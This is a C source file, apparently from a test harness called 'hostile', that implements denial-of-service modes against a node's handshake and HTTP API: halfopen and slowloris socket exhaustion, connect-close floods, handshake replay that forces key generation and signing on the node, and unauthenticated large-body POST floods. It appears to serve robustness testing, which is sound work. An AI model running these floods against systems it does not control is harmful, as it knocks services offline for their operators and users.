/*
 * raw.c: attacks below the secure channel, and on the HTTP API.
 *
 *   halfopen   keeps --conns sockets open that never send a byte
 *   slowloris  keeps --conns sockets sending a valid M1, one byte every
 *              --byte-ms
 *   refuse     connects and closes as fast as it can (--conns at a time,
 *              --rate a second if given): against a full node, every one is
 *              a refused connection
 *   replay     replays one fixed M1 at --rate connections a second (--conns
 *              at a time): the node makes a key, an X25519 exchange and an
 *              Ed25519 signature for each; we close once its M2 is in
 *   api        --conns HTTP clients without a token, each POSTing a
 *              --body-bytes body, again as soon as it is answered
 *
 * A socket the node took is one it sent a byte on (its M1, at once); one
 * it closed without a byte is one it refused.  Loop thread only.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sodium.h>

#include "hostile.h"

struct rslot {
	struct link	*l;
	unsigned	 idx;
	uint64_t	 next_try_ns;
	uint64_t	 next_byte_ns;	/* slowloris */
	unsigned	 sent;		/* slowloris: bytes dribbled; api: answered */
	size_t		 queued;	/* api: bytes of the request */
};

struct raw {
	struct rslot	*slots;
	unsigned	 n;
	uint8_t		 m1[CHANNEL_M1_LEN];
	double		 tokens;	/* refuse, replay: connections allowed now */
	uint64_t	 filled_ns;	/* tokens counted up to here */
	char		 head[256];	/* api: the request head */
	size_t		 headlen;
	char		*body;		/* api: shared by every request */
};

static const struct link_ops raw_ops;

static struct raw *
raw_get(struct hostile *h)
{
	return h->m;
}

static void
raw_new(struct hostile *h)
{
	struct raw *r = calloc(1, sizeof(*r));
	uint8_t sk[32];
	unsigned i;

	if (r == NULL)
		abort();
	r->n = h->o.conns;
	if ((r->slots = calloc(r->n ? r->n : 1, sizeof(*r->slots))) == NULL)
		abort();
	for (i = 0; i < r->n; i++)
		r->slots[i].idx = i;
	/* One fixed, well-formed M1: "NDH1" | an X25519 public key. */
	memcpy(r->m1, "NDH1", 4);
	crypto_kx_keypair(r->m1 + 4, sk);
	h->m = r;
}

/*
 * Opens closed slots whose wait is over; with a rate, no more than the
 * tokens allow.
 */
static void
raw_fill(struct hostile *h, uint64_t now, int rated)
{
	struct raw *r = raw_get(h);
	double dt = r->filled_ns ? (double)(now - r->filled_ns) / 1e9 : 0;
	unsigned i;

	if (!hostile_running(h))
		return;
	r->filled_ns = now;
	if (rated) {
		r->tokens += h->o.rate * dt;
		if (r->tokens > h->o.rate * 0.02 + 1)
			r->tokens = h->o.rate * 0.02 + 1;
	}
	for (i = 0; i < r->n; i++) {
		struct rslot *s = &r->slots[i];

		if (s->l != NULL || now < s->next_try_ns)
			continue;
		if (rated && r->tokens < 1)
			break;
		if (rated)
			r->tokens -= 1;
		s->sent = 0;
		s->queued = 0;
		s->next_byte_ns = now;
		s->l = link_open(h, 0, NULL, h->o.rcvbuf, &raw_ops, s);
		if (s->l == NULL)
			s->next_try_ns = now + 10000000ull;
	}
}

static void
raw_closed(struct hostile *h, void *arg, int by_node, const char *why)
{
	struct rslot *s = arg;
	uint64_t now = hostile_now_ns();

	(void)by_node;
	if (h->o.verbose > 1)
		fprintf(stderr, "hostile: socket %u closed: %s\n", s->idx, why);
	s->l = NULL;
	s->next_try_ns = now + (uint64_t)h->o.retry_ms * 1000000ull;
	/* The connection-rate modes go again at once, not at the next tick. */
	if (h->o.retry_ms == 0 && (h->mode == &mode_replay || h->mode == &mode_refuse))
		raw_fill(h, now, h->o.rate > 0);
}

static void
raw_up(struct link *l)
{
	struct hostile *h = l->h;
	struct raw *r = raw_get(h);
	struct rslot *s = l->arg;

	if (h->mode == &mode_replay)
		(void)link_send_raw(l, r->m1, sizeof(r->m1));
	else if (h->mode == &mode_api) {
		(void)link_send_raw(l, r->head, r->headlen);
		/* The body is referenced, not copied: 250 clients, one buffer. */
		if (evbuffer_add_reference(bufferevent_get_output(l->bev), r->body,
		    h->o.body_bytes, NULL, NULL) == 0)
			h->c[HC_BYTES_SENT] += h->o.body_bytes;
		s->queued = r->headlen + h->o.body_bytes;
	}
}

static void
raw_data(struct link *l, struct evbuffer *in)
{
	struct hostile *h = l->h;
	struct rslot *s = l->arg;
	char line[16];
	size_t sent;
	int code;

	if (h->mode == &mode_halfopen || h->mode == &mode_slowloris) {
		link_count_active(l);		/* the node took it: it holds a slot */
		evbuffer_drain(in, evbuffer_get_length(in));
		return;
	}
	if (h->mode == &mode_refuse) {
		link_close(l, "taken: closing at once");
		return;
	}
	if (h->mode == &mode_replay) {
		/* Its M1 and its M2: the node did the whole of its half. */
		if (l->recv >= CHANNEL_M1_LEN + CHANNEL_M2_LEN) {
			h->c[HC_HS_ANSWERED]++;
			link_close(l, "answered");
		}
		return;
	}
	/* api: the status line, then close and ask again. */
	if (evbuffer_get_length(in) < 12)
		return;
	evbuffer_copyout(in, line, 12);
	line[12] = '\0';
	code = strncmp(line, "HTTP/1.", 7) == 0 ? atoi(line + 9) : 0;
	if (code == 401)
		h->c[HC_HTTP_401]++;
	else if (code == 413)
		h->c[HC_HTTP_413]++;
	else
		h->c[HC_HTTP_OTHER]++;
	h->c[HC_HTTP_REQUESTS]++;
	sent = s->queued - link_pending(l);
	if (sent > raw_get(h)->headlen)
		h->c[HC_BODY_BYTES_SENT] += sent - raw_get(h)->headlen;
	link_close(l, "answered");
}

static const struct link_ops raw_ops = { raw_up, NULL, raw_data, raw_closed };

/* --- halfopen, slowloris --------------------------------------------- */

static void
flood_start(struct hostile *h)
{
	raw_new(h);
}

static void
halfopen_tick(struct hostile *h, uint64_t now)
{
	raw_fill(h, now, 0);
}

static void
slowloris_tick(struct hostile *h, uint64_t now)
{
	struct raw *r = raw_get(h);
	uint8_t b;
	unsigned i;

	raw_fill(h, now, 0);
	for (i = 0; i < r->n; i++) {
		struct rslot *s = &r->slots[i];

		if (s->l == NULL || s->l->closed || s->l->state != LINK_OPEN ||
		    now < s->next_byte_ns)
			continue;
		s->next_byte_ns = now + (uint64_t)h->o.byte_ms * 1000000ull;
		/* A valid M1, a byte at a time; then anything. */
		b = s->sent < sizeof(r->m1) ? r->m1[s->sent] : (uint8_t)randombytes_random();
		if (link_send_raw(s->l, &b, 1) == 0) {
			s->sent++;
			h->c[HC_SLOW_BYTES]++;
		}
	}
}

/* --- refuse, replay -------------------------------------------------- */

static void
refuse_tick(struct hostile *h, uint64_t now)
{
	raw_fill(h, now, h->o.rate > 0);
}

static void
replay_tick(struct hostile *h, uint64_t now)
{
	raw_fill(h, now, 1);
}

static void
replay_report(struct hostile *h, FILE *out)
{
	double s = (double)(h->end_ns - h->start_ns) / 1e9;

	fprintf(out, ",\"target_rate\":%.0f,\"answered_per_s\":%.0f", h->o.rate,
	    s > 0 ? h->c[HC_HS_ANSWERED] / s : 0.0);
}

/* --- api ------------------------------------------------------------- */

static void
api_start(struct hostile *h)
{
	struct raw *r;
	size_t n = h->o.body_bytes;

	raw_new(h);
	r = raw_get(h);
	if (n < 16)
		n = h->o.body_bytes = 16;
	if ((r->body = malloc(n)) == NULL)
		abort();
	/* A JSON object that would be well formed, had it been allowed in. */
	memset(r->body, 'a', n);
	memcpy(r->body, "{\"tx\":\"", 7);
	memcpy(r->body + n - 2, "\"}", 2);
	r->headlen = (size_t)snprintf(r->head, sizeof(r->head),
	    "POST /v1/tx HTTP/1.1\r\nHost: %s:%u\r\nContent-Type: application/json\r\n"
	    "Content-Length: %zu\r\n\r\n", h->o.host, h->o.port, n);
}

static void
api_tick(struct hostile *h, uint64_t now)
{
	raw_fill(h, now, 0);
}

static void
api_report(struct hostile *h, FILE *out)
{
	fprintf(out, ",\"clients\":%u,\"body_bytes\":%zu", h->o.conns, h->o.body_bytes);
}

const struct mode mode_halfopen = { "halfopen",
	"--conns sockets that never send a byte, reopened when closed",
	0, 0, flood_start, halfopen_tick, NULL };
const struct mode mode_slowloris = { "slowloris",
	"--conns sockets sending a valid M1 one byte every --byte-ms",
	0, 0, flood_start, slowloris_tick, NULL };
const struct mode mode_refuse = { "refuse",
	"connect and close at once, --conns at a time (--rate caps, 0: none)",
	0, 0, flood_start, refuse_tick, NULL };
const struct mode mode_replay = { "replay",
	"one fixed M1 replayed at --rate connections/s, closing after the node's M2",
	0, 0, flood_start, replay_tick, replay_report };
const struct mode mode_api = { "api",
	"--conns HTTP clients without a token POSTing --body-bytes bodies",
	0, 1, api_start, api_tick, api_report };
